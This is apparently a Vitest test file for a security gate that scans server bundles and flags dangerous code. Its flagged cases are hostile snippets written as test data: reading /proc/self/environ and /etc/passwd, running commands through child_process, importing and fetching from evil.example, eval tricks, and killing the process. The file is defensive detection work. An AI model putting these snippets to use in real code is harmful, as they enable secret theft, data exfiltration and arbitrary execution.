import { expect, test } from 'vitest'
import { aSubject } from '../../testing/a-subject'
import { serverGate } from './server-gate'

const measure = async (server: string) => serverGate.measure({ ...(await aSubject()), server })

test.each([
  ['what the host shares', 'require("react"); require("@tanstack/react-query")'],
  ['which build it is', 'if (process.env.NODE_ENV !== "production") warn(); typeof process; globalThis.process?.env'],
  [
    'what a library asks of Node',
    'var f = g && g.process; f.binding("util"); var u = m && m.require && m.require("util")',
  ],
  ['the way to the global object', 'var root = self || Function("return this")()'],
  ['calls within the shop', 'fetch("/api/toys"); fetch(url); new XMLHttpRequest().open("GET", "/media/a")'],
  ['objects of the same class', 'a.constructor(b); new a.constructor({ b })'],
  ['names of its own', 'function draw(process, Deno) { process.exit(); Deno.run() } class Worker {} new Worker()'],
  ['variables that stood for something', 'let a = undefined, b = Infinity; a = 1; b = 2'],
])('%s passes', async (_what, server) => {
  expect(await measure(server)).toEqual({ passed: true, measured: 'a bundle that only draws' })
})

test.each([
  ['ends the shop', 'globalThis.process.kill(globalThis.process.pid, "SIGKILL")', 'process'],
  ['ends it by another name', 'const p = globalThis["process"]; p.exit(1)', 'process'],
  ['takes one power out', 'const { exit } = process; exit(1)', 'process'],
  ['takes one power out, minified', 'const { exit: e } = process; (0, e)(1)', 'process'],
  ['reads secrets', 'require("node:fs").readFileSync("/proc/self/environ")', 'require("node:fs")'],
  ['runs commands', 'require("child_process").execSync("id")', 'require("child_process")'],
  ['runs them, minified', '(0, require)("child_process").execSync("id")', 'require("child_process")'],
  ['runs them by a counted name', 'require("child_" + x)', 'require() of a name that is counted'],
  ['runs them by the module', 'module.require("fs")', 'require("fs")'],
  ['loads code', 'import("https://evil.example/a.js")', 'import()'],
  ['makes code', 'eval("1"); new Function("return process")()', 'code is made of a text'],
  ['makes code, minified', '(0, eval)("1")', 'code is made of a text'],
  ['makes code by a function', '(() => {}).constructor("return " + "process")()', 'code is made of a text'],
  ['makes code in a roundabout way', '[].constructor.constructor("return process")()', 'code is made of a text'],
  ['calls others', 'fetch("https://evil.example/?" + document)', 'fetch() of https://evil.example/?'],
  ['calls others, minified', '(0, fetch)("https://evil.example")', 'fetch() of https://evil.example'],
  ['calls them without a scheme', 'new WebSocket("//evil.example")', 'WebSocket() of //evil.example'],
  ['has the powers of its process', 'Deno.readTextFileSync("/etc/passwd")', 'Deno'],
  ['has others work for it', 'new Worker(a)', 'Worker'],
  ['replaces a built-in', 'Array.prototype.map = () => []', 'Array.prototype.map is replaced'],
  ['wraps Intl', 'Intl.NumberFormat = class {}', 'Intl.NumberFormat is replaced'],
  ['is nested too deeply', `${'['.repeat(20_000)}${']'.repeat(20_000)}`, null],
])('who %s is found', async (_what, server, said) => {
  if (said === null) await expect(measure(server)).rejects.toThrow()
  else expect((await measure(server)).measured).toContain(`server/remote.cjs: ${said}`)
})
